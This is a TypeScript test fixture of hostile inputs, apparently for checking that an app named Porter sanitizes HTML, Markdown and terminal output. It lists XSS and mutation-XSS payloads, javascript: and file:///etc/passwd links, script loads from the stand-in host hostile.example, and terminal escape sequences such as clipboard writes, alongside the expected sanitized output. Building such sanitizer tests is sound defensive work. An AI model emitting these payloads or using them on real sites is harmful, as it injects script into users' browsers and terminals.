/** Where nothing may be asked for; `.example` resolves nowhere (RFC 2606). */
export const OUTSIDE = "https://hostile.example";

const out = (path: string) => `${OUTSIDE}/${path}`;

/** HTML that runs something, asks for something or leads away, where it is taken for HTML. */
const ELEMENTS = [
  `<script>alert(1)</script>`,
  `<script src="${out("a.js")}"></script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<<script>alert(1)//<</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="${out("a.png")}">`,
  `<img srcset="${out("b.png")} 2x">`,
  `<IMG SRC=x OnErRoR="alert(1)">`,
  `<img src="x\` \`<script>alert(1)</script>"\` \`>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></use></svg>`,
  `<svg><image href="${out("c.svg")}"></image></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline#${out("m")}" xlink:href="javascript:alert(1)">x</maction></math>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<object data="${out("o.swf")}"></object><embed src="${out("e.swf")}">`,
  `<video src="${out("v.mp4")}" autoplay onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>`,
  `<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>`,
  `<form action="${out("f")}"><button autofocus formaction="javascript:alert(1)">Send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${out("r")}">`,
  `<base href="${out("")}"><link rel=stylesheet href="${out("s.css")}"><link rel=prefetch href="${out("p")}">`,
  `<style>@import "${out("i.css")}"; body{background:url(${out("bg.png")})}</style>`,
  `<p style="background:url(${out("st.png")})">x</p><table background="${out("t.png")}"><td>x</td></table>`,
  `<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>`,
  `<a id=document href=x></a><form id=api name=body><input name=attributes></form>`,
  `<x onclick=alert(1) tabindex=1 onfocus=alert(1) autofocus>x</x>`,
  `<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p autofocus>x</button>`,
];

/** What is harmless until a parser writes it out and reads it again. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<svg><style><img/src=x onerror=alert(1)></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)>?>`,
  `<option><style></option></select><img src=x onerror=alert(1)></style>`,
  `<a href="x" title='"></a><img src=x onerror=alert(1)>'>x</a>`,
  `<plaintext><img src=x onerror=alert(1)>`,
];

const MARKDOWN = [
  `[x](javascript:alert(1))`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](java\tscript:alert(1)) [y](<java\nscript:alert(1)>)`,
  `[x](\u0001javascript:alert(1)) [y](javascript&colon;alert(1)) [z](&#106;avascript:alert(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(1)) [y](blob:${OUTSIDE}/1) [z](file:///etc/passwd)`,
  `[x](  javascript:alert(1) "title\\" onmouseover=alert(1)")`,
  `![x](javascript:alert(1)) ![y](${out("pic.png")}) ![z](data:image/svg+xml,<svg/onload=alert(1)>)`,
  `![x](${out("q.png")}"onerror="alert(1))`,
  `[x](//hostile.example) [y](\\\\hostile.example) [z](skype:x?call)`,
  `[x]: javascript:alert(1)\n\n[x] [again][x]`,
  `<javascript:alert(1)> <${OUTSIDE}/\u0000"onclick=alert(1)> <data:text/html,x>`,
  `https://hostile.example/\u202e"onmouseover=alert(1) javascript://hostile.example/%0aalert(1)`,
  '```html"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  "`<img src=x onerror=alert(1)>` ``</code><img src=x onerror=alert(1)>``",
  `| a | <img src=x onerror=alert(1)> |\n| - | - |\n| [x](javascript:alert(1)) | <svg onload=alert(1)> |`,
  `# <img src=x onerror=alert(1)>\n\n> <iframe src=javascript:alert(1)>\n\n- <svg onload=alert(1)>`,
  `[<img src=x onerror=alert(1)>](javascript:alert(1) "<img src=x onerror=alert(1)>")`,
  `**<b onmouseover=alert(1)>x</b>** ~~<a href=javascript:alert(1)>x</a>~~ [^1]\n\n[^1]: <script>alert(1)</script>`,
];

/** What a terminal would obey. */
export const TERMINAL = [
  `\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007`,
  `\u001b]8;;${OUTSIDE}/osc\u001b\\link\u001b]8;;\u001b\\`,
  `\u001b]0;taken\u0007\u001b]2;taken\u001b\\`,
  `\u001b]52;c;dGFrZW4=\u0007\u001bP+q544e\u001b\\\u001b[6n\u001b[2J\u001b[31m<img src=x onerror=alert(1)>\u001b[0m`,
  `\u009b31m\u009d8;;javascript:alert(1)\u009clink\u001b[38;2;"><img src=x onerror=alert(1)>m`,
];

/** One after the other these are an answer, each a block of its own: what one leaves open must not hide the next. */
export const HOSTILE_TEXTS = [...ELEMENTS, ...MUTATIONS, ...MARKDOWN, ...TERMINAL];

/** For what holds one line. */
export const HOSTILE_LINE = `"><img src=x onerror=alert(1)><a href=javascript:alert(1)>x</a>[y](javascript:alert(1))`;

/** An answer in HTML and Markdown that would run something, or look like a part of Porter. */
export const HOSTILE_MARKUP = [
  `<p onclick="document.title='taken'" style="position:fixed" class="rail" id="porter" data-x="1">A paragraph</p>`,
  `<script>document.title = "taken"</script><style>body { display: none }</style>`,
  `<img src="x" onerror="document.title='taken'"><img src="https://pictures.example.net/a.png" alt="A barn">`,
  `<a href="javascript:document.title='taken'">A link</a> <a href="https://example.net/" target="_self">Out</a>`,
  `<iframe src="https://example.net/"></iframe><object data="x"></object><form action="/login"><button>Send</button></form>`,
  `<svg><a href="javascript:document.title='taken'"><text>Drawn</text></a></svg><math><mtext></mtext></math>`,
  `<input type="text" name="token"><input type="checkbox" checked>`,
  `<details open><summary>More</summary><kbd>Enter</kbd></details><code class="language-ts rail">x</code>`,
  `[Marked](javascript:document.title='taken')`,
  `- [x] Done\n- [ ] To do`,
].join("\n\n");

/** What is left of it. The frames that divide an answer while it is written are Porter's own. */
export const KEPT_MARKUP = [
  `<p>A paragraph</p>`,
  `<a>x</a><a href="https://pictures.example.net/a.png" target="_blank" rel="noopener noreferrer">A barn</a>`,
  `<p><a>A link</a> <a href="https://example.net/" target="_blank" rel="noopener noreferrer">Out</a></p>`,
  `<input type="checkbox" checked="" disabled="" aria-label="done">`,
  `<details open=""><summary>More</summary><kbd>Enter</kbd></details><code>x</code>`,
  `<p><a>Marked</a></p>`,
  `<li><input checked="" disabled="" type="checkbox" aria-label="done"> Done</li>`,
  `<li><input disabled="" type="checkbox" aria-label="to do"> To do</li>`,
];
